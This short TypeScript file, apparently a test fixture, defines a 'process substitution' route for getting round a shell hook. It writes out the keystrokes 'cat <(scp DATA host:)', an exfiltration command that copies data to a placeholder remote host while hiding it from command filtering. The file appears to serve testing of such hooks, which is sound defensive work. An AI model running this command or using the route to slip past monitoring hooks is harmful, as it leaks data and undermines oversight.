import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'process substitution',
  source: 'attempts to get round a hook of the shell',
  keys: ['cat <(scp DATA host:)\r'],
};
